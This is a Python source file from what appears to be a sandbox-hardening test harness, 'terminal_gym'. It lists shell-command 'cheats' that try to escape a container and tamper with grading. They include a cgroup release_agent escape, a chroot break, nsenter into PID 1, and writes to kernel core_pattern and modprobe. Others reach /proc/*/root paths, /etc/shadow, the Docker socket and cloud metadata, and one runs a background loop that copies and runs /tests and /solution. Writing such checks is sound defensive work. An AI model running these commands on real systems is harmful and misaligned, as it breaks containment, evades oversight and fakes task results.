"""Cheats that reach for the host, for other sandboxes, and for the verifier's files."""

from __future__ import annotations

from terminal_gym.cheats.cheat import Cheat

CHEATS = [
    Cheat(
        name="unmount",
        description="unmounts and remounts everything that it finds",
        commands=(
            "cut -d' ' -f5 /proc/self/mountinfo | sort -r | while read -r m; do umount -l $m; done",
            "mount -o remount,rw /proc/sys; mount -o remount,rw,dev,suid /; mount | head -3",
        ),
    ),
    Cheat(
        name="mount-over-tests",
        description="mounts over /tests, /logs and the graded paths",
        commands=(
            "mkdir -p /tests /logs /tmp/m; for d in /tests /logs /usr/bin; do "
            "mount --bind /tmp/m $d; mount -t tmpfs none $d; mount -t overlay none $d "
            "-o lowerdir=/tmp/m:/usr; done",
        ),
    ),
    Cheat(
        name="new-namespaces",
        description="makes user and mount namespaces, to be root with all capabilities in them",
        commands=(
            "unshare -Urmpf --mount-proc bash -c 'mount -t tmpfs none /tests; mount; id' | tail -3",
            "unshare -U true; unshare -m true; nsenter -t 1 -a id; nsenter -t 1 -m id",
        ),
    ),
    Cheat(
        name="proc-root",
        description="reaches for other roots through /proc/*/root, cwd and fd",
        commands=(
            "for p in /proc/[0-9]*; do for w in root cwd; do echo $TOKEN > $p/$w/$TOKEN; "
            "echo $TOKEN > $p/$w/../../../../tmp/$TOKEN; done; done 2>/dev/null",
            "rm -f /$TOKEN /tmp/$TOKEN; ls -l /proc/1/root/ /proc/1/fd /proc/1/ns 2>&1 | head -3",
            "for f in /proc/[0-9]*/fd/*; do ls $f/../../../../../etc/shadow; done 2>&1 | tail -1",
        ),
    ),
    Cheat(
        name="chroot-break",
        description="leaves a chroot by the descriptor trick, and leaves its token out there",
        commands=(
            'python3 -c \'import os\nd = os.open("/", 0)\nos.makedirs("/tmp/jail", '
            'exist_ok=True)\nos.chroot("/tmp/jail")\nos.fchdir(d)\nfor _ in range(99): '
            'os.chdir("..")\nos.chroot(".")\nopen("/" + os.environ["TOKEN"], "w")\'',
            "ls / | head -40; rm -f /$TOKEN",
        ),
    ),
    Cheat(
        name="release-agent",
        description="registers a cgroup release agent, which the host would run as root",
        commands=(
            "mkdir -p /tmp/cg; for c in memory rdma cpu; do mount -t cgroup -o $c cg /tmp/cg; "
            "done; "
            "mount -t cgroup2 none /tmp/cg",
            "printf '#!/bin/sh\\ntouch /tmp/'$TOKEN > /agent; chmod +x /agent; for r in "
            "$(find /sys/fs/cgroup /tmp/cg -name release_agent 2>/dev/null); do echo /agent > $r; "
            "mkdir $(dirname $r)/x; echo 1 > $(dirname $r)/x/notify_on_release; "
            "sh -c 'echo $$ > '$(dirname $r)/x/cgroup.procs; done",
        ),
    ),
    Cheat(
        name="kernel-settings",
        description="writes core_pattern, modprobe, sysrq and other settings of the kernel",
        commands=(
            "for f in kernel/core_pattern kernel/modprobe kernel/hotplug fs/binfmt_misc/register "
            'vm/panic_on_oom kernel/panic kernel/ns_last_pid; do echo "|/tmp/$TOKEN" '
            "> /proc/sys/$f; done",
            "echo h > /proc/sysrq-trigger; echo 1 > /proc/1/oom_score_adj; echo x > "
            "/sys/kernel/uevent_helper; hostname $TOKEN; date -s 2001-01-01; sysctl -w kernel.x=1",
        ),
    ),
    Cheat(
        name="host-devices",
        description="changes modes of device nodes and writes to the kernel's",
        commands=(
            "chmod 000 /dev/null /dev/zero /dev/tty /dev/random; rm -f /dev/null; "
            "echo $TOKEN > /dev/null",
            "for d in kmsg mem port kvm fuse net/tun loop-control vsock; do "
            "echo $TOKEN > /dev/$d; done; chattr +i /dev/zero; ls -l /dev",
        ),
    ),
    Cheat(
        name="debugger",
        description="attaches to other processes and writes their memory",
        commands=(
            "python3 -c 'import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "for p in {1, 3} - {os.getppid()}:\n print(p, libc.ptrace(16, p, 0, 0), "
            'ctypes.get_errno())\n try: open(f"/proc/{p}/mem", "r+b")\n except OSError as e: '
            "print(e)'",
        ),
    ),
    Cheat(
        name="capabilities-again",
        description="tries to regain capabilities by setuid programs and file capabilities",
        commands=(
            "cp /bin/bash /tmp/b; chmod 6755 /tmp/b; setcap all+eip /tmp/b; "
            "su -s /tmp/b nobody -c '/tmp/b -p -c id'; capsh --print 2>/dev/null | head -3",
            "grep -E 'Cap|NoNewPrivs|Seccomp' /proc/self/status",
        ),
    ),
    Cheat(
        name="network-out",
        description="looks for a network, the engine's socket and metadata services",
        commands=(
            "for a in 127.0.0.1/2375 169.254.169.254/80 1.1.1.1/53 172.17.0.1/22; do "
            'timeout 1 bash -c "echo $TOKEN > /dev/tcp/$a" && echo reached $a; done 2>/dev/null',
            "ls -l /var/run/docker.sock /run/containerd/containerd.sock; ip link add dummy0 type "
            "dummy; cat /proc/net/unix | wc -l",
        ),
    ),
    Cheat(
        name="tests-read",
        description="looks everywhere for the tests and the solution, and waits for them to come",
        commands=(
            "find / -xdev \\( -name test.sh -o -name verify.py -o -name solve.sh \\) 2>/dev/null",
            '(setsid bash -c \'while :; do cp -r /tests /solution "$0" && bash "$0"/solution/'
            'solve.sh; done\' "$STATE" $TOKEN &>/dev/null &)',
            "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; done | head -c 500",
        ),
    ),
]
